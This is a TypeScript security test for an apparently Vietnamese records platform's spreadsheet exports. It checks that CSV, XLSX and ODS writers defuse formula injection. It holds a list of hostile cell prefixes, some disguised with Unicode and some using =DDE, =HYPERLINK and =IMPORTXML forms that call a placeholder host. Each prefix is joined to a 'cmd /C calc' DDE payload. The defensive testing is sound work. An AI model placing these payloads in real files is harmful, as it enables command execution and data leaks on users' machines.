import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import type { QueryRunner } from 'typeorm';
import { type Column, completionColumns, personnelColumns, publicColumns, trainingRecordColumns, transcriptColumns } from '@kynangso/domain/export';
import { Database } from '@kynangso/server/platform';
import { copiedRows } from '../../libs/server/src/export/copy-rows';
import { writeCsv } from '../../libs/server/src/export/format/csv';
import { writeOds } from '../../libs/server/src/export/format/ods';
import type { SheetTable } from '../../libs/server/src/export/format/table';
import { writeXlsx } from '../../libs/server/src/export/format/xlsx';
import { bareSql, guardedSql, type TableSource } from '../../libs/server/src/export/guarded-sql';
import { startDurablePostgres } from '../support/load/durable-postgres';
import { openExport } from '../support/load/seed-records';
import { odsCells, type ReadCell, xlsxCells, zipEntries } from '../support/spreadsheet';

const COMMAND = `cmd|' /C calc'!A0`;
/** What a cell may begin with that a spreadsheet takes for a formula, plain and in disguise. */
const PREFIXES = [
  '=', '+', '-', '@', '\t', '\r', '\n', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', '"=', "“=", '«=', '\ufeff=', '\u200b=', '\u200d＝', ' =', '\u00a0=', '\u3000=', '  "@', '\u2060+', '\u00ad-', '\v=', '\f=',
  '=HYPERLINK("http://x","', '@SUM(1+1)*', '=DDE("cmd";"/C calc";"', "+cmd|'", '=IMPORTXML(CONCAT("http://x?v=",',
] as const;
const tables: Record<string, readonly Column[]> = { completion: completionColumns, trainingRecords: trainingRecordColumns, personnel: personnelColumns, transcript: transcriptColumns, public: publicColumns };

/** An independent reading of "may run": what is left after everything a spreadsheet skips begins like a formula, or a control character shifts the cell. */
function isLive(text: string): boolean {
  if (/^[\t\r\n]/.test(text)) return true;
  const rest = [...text].find((c) => !/[\s\p{Z}\p{Cf}\p{Pi}\p{Pf}"]/u.test(c));
  return rest !== undefined && '=+-@＝＋－＠'.includes(rest);
}

interface Read {
  cells: number;
  live: number;
  formulas: number;
  changed: number;
}

/** Every prefix in every text column of every table, written by the real statement and writers and read back from the files. The control is the same without the guard. */
export async function run(): Promise<object> {
  const postgres = await startDurablePostgres();
  const dataDir = mkdtempSync(join(tmpdir(), 'kynangso-proof-'));
  const rooms = await openExport(postgres.appUrl, dataDir);
  const sum: Read = { cells: 0, live: 0, formulas: 0, changed: 0 };
  const control = { csv: 0, xlsx: 0, ods: 0 };
  try {
    for (const columns of Object.values(tables)) {
      const source = hostile(columns);
      for (const format of ['csv', 'xlsx', 'ods'] as const) {
        const read = await inTransaction(rooms.get(Database, { strict: false }), (runner) => readBack(runner, source, format, true));
        for (const [row, cells] of read.entries()) {
          for (const [at, column] of columns.entries()) {
            if (!isText(column)) continue;
            const cell = cells[at] ?? { type: 'none', value: '' };
            const wanted = `${PREFIXES[row] ?? ''}${COMMAND}`;
            sum.cells += 1;
            if (cell.type === 'f' || cell.type === 'formula') sum.formulas += 1;
            if (isLive(cell.value)) sum.live += 1;
            // a vertical tab or form feed can't stand in XML and becomes a sign that says so
            if (cell.value !== `'${wanted}` && cell.value !== `'${wanted.replace(/[\v\f]/g, '\ufffd')}`) sum.changed += 1;
          }
        }
        const bare = await inTransaction(rooms.get(Database, { strict: false }), (runner) => readBack(runner, source, format, false));
        control[format] += bare.flat().filter((cell) => isLive(cell.value)).length;
      }
    }
  } finally {
    await rooms.close();
    await postgres.stop();
    rmSync(dataDir, { recursive: true, force: true });
  }
  const columns = Object.values(tables).flat().filter(isText).length;
  return {
    measured: { prefixes: PREFIXES.length, textColumns: columns, formats: 3, ...sum },
    bar: { cells: PREFIXES.length * columns * 3, live: 0, formulas: 0, changed: 0 },
    control: { liveWithoutGuard: control, caught: Object.values(control).every((n) => n > 0) },
    ok: sum.cells === PREFIXES.length * columns * 3 && sum.live === 0 && sum.formulas === 0 && sum.changed === 0 && Object.values(control).every((n) => n > 0),
  };
}

const isText = (c: Column): boolean => c.kind === 'text' || c.kind === 'identifier' || c.kind === 'localized';

function hostile(columns: readonly Column[]): TableSource {
  const rows = PREFIXES.map((prefix) => Object.fromEntries(columns.map((c) => [c.key, !isText(c) ? null : c.kind === 'localized' ? { vi: `${prefix}${COMMAND}` } : `${prefix}${COMMAND}`])));
  const shape = columns.map((c) => `"${c.key}" ${c.kind === 'localized' ? 'jsonb' : c.kind === 'day' ? 'date' : isText(c) ? 'text' : 'int'}`);
  return { columns, sql: `SELECT * FROM jsonb_to_recordset($1::jsonb) AS hostile (${shape.join(', ')})`, values: [JSON.stringify(rows)] };
}

async function inTransaction<T>(database: Database, work: (runner: QueryRunner) => Promise<T>): Promise<T> {
  const runner = database.source.createQueryRunner();
  try {
    await runner.startTransaction();
    return await work(runner);
  } finally {
    await runner.rollbackTransaction();
    await runner.release();
  }
}

/** The rows below the head as the file has them. */
async function readBack(runner: QueryRunner, source: TableSource, format: 'csv' | 'xlsx' | 'ods', isGuarded: boolean): Promise<ReadCell[][]> {
  const out = new PassThrough();
  const bytes = buffer(out);
  const plain: TableSource = { ...source, columns: source.columns.map((c) => ({ key: c.key, kind: c.kind, width: c.width, header: c.header })) };
  const unguarded = source.columns.map((c) => (c.kind === 'localized' ? `r."${c.key}" ->> 'vi' AS "${c.key}"` : `r."${c.key}"`)).join(', ');
  if (format === 'csv' && isGuarded) await writeCsv(runner, source, 'vi', out, () => undefined);
  else {
    const sql = isGuarded ? guardedSql(source, 'vi', 'plain') : `SELECT ${unguarded} FROM (${bareSql(plain)}) r`;
    if (format === 'csv') {
      for await (const rows of copiedRows(runner, sql)) out.write(rows.map((row) => `${row.map((v) => `"${(v ?? '').replaceAll('"', '""')}"`).join(',')}\n`).join(''));
      out.end();
      return (parse(await bytes) as string[][]).map((row) => row.map((value) => ({ type: 'text', value })));
    }
    const table: SheetTable = { columns: source.columns, rows: copiedRows(runner, sql), locale: 'vi', title: 'Thử', notes: [], total: PREFIXES.length, madeAt: new Date(0) };
    await (format === 'xlsx' ? writeXlsx : writeOds)(table, out, () => undefined);
  }
  if (format === 'csv') return (parse(await bytes, { bom: true, from_line: 2 }) as string[][]).map((row) => row.map((value) => ({ type: 'text', value })));
  const entries = await zipEntries(await bytes);
  // empty cells are left out of a sheet, and these tables leave out only what is no text
  const cells = format === 'ods' ? odsCells(entries.get('content.xml') ?? '') : xlsxPlaced(entries.get('xl/worksheets/sheet1.xml') ?? '', source.columns);
  return cells.slice(1);
}

function xlsxPlaced(xml: string, columns: readonly Column[]): ReadCell[][] {
  return xlsxCells(xml).map((row, line) => {
    if (line === 0) return row;
    const given = row.values();
    return columns.map((c) => (isText(c) ? (given.next().value ?? { type: 'none', value: '' }) : { type: 'none', value: '' }));
  });
}
